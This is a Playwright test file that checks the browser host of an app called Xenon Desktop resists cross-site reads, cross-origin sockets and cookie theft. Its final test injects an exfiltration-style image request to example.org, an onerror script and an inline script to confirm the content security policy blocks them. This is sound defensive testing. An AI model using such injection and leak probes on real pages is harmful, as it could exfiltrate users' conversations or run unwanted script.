// What the browser host lets another site, another browser or hostile content do: nothing.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './host.ts';

test.describe('the browser host', { tag: '@browser' }, () => {
  test('takes the token out of the address once the browser is signed in', async ({ host }) => {
    expect(host.page.url()).toBe(`${new URL(host.url).origin}/`);
    await host.page.reload();
    await expect(host.page.getByRole('textbox', { name: 'Message' })).toBeVisible();
  });

  test('keeps its cookie from scripts', async ({ host }) => {
    expect(await host.page.evaluate(() => document.cookie)).toBe('');
    const [cookie] = await host.page.context().cookies();
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
    expect(cookie?.value).not.toBe(new URL(host.url).searchParams.get('token'));
  });

  test('tells another browser what to do, and nothing else', async ({ host, browser }) => {
    const stranger = await browser.newPage();
    const { origin } = new URL(host.url);
    for (const path of ['/', '/?token=wrong', '/index.html']) {
      const answer = await stranger.goto(origin + path);
      expect(answer?.status()).toBe(401);
      expect(await stranger.locator('body').innerText()).toBe(
        'Open the address that Xenon Desktop printed when it started.',
      );
    }
    expect((await stranger.goto(host.url))?.status()).toBe(200);
    await stranger.close();
  });

  test("another site's page reads nothing and opens no socket, although the cookie is sent along", async ({
    host,
  }) => {
    // Another port of the same host is the same site: SameSite does not keep its pages out.
    const other = createServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end('<title>other</title>'),
    );
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const page = await host.page.context().newPage();
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    const { origin } = new URL(host.url);
    const attempts = await page.evaluate(async (target) => {
      const outcome = (attempt: Promise<unknown>) => attempt.then(String, () => 'refused');
      const loads = (element: HTMLElement) =>
        new Promise((resolve, reject) => {
          element.onload = () => resolve('loaded');
          element.onerror = () => reject(new Error());
          document.body.append(element);
        });
      return {
        read: await outcome(fetch(target, { credentials: 'include' })),
        send: await outcome(fetch(target, { mode: 'no-cors', credentials: 'include' })),
        image: await outcome(loads(Object.assign(new Image(), { src: target }))),
        socket: await outcome(
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`${target.replace('http', 'ws')}/socket`);
            socket.onopen = () => resolve('open');
            socket.onclose = reject;
          }),
        ),
      };
    }, origin);
    expect(attempts).toEqual({ read: 'refused', send: 'refused', image: 'refused', socket: 'refused' });
    // The same from the app's own page, so that a refusal above means something.
    const own = await host.page.evaluate(async () => {
      const socket = new WebSocket(`${location.origin.replace('http', 'ws')}/socket`);
      const opened = await new Promise<boolean>((resolve) => {
        socket.onopen = () => resolve(true);
        socket.onclose = () => resolve(false);
      });
      socket.close();
      return { opened, read: (await fetch('/')).status };
    });
    expect(own).toEqual({ opened: true, read: 200 });
    await page.close();
    other.close();
  });
});

test('a page loads nothing from elsewhere and runs no script but its own', { tag: '@browser' }, async ({
  scripted: { page },
}) => {
  // What it stops, the fixture would report as the page's trouble: a page of its own without that.
  const probe = await page.context().newPage();
  await probe.goto(page.url());
  const stopped = await probe.evaluate(async () => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      directives.push(event.effectiveDirective),
    );
    const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
    add('<img src="https://example.org/leak?the-conversation">');
    add('<iframe src="https://example.org/"></iframe>');
    add('<img src="x" onerror="window.ran = true">');
    const script = document.createElement('script');
    script.textContent = 'window.ran = true';
    document.body.append(script);
    await fetch('https://example.org/').catch(() => {});
    const deadline = Date.now() + 10_000;
    while (directives.length < 5 && Date.now() < deadline) await new Promise((next) => setTimeout(next, 20));
    return { directives: directives.sort(), ran: 'ran' in window };
  });
  expect(stopped).toEqual({
    directives: ['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem'],
    ran: false,
  });
});
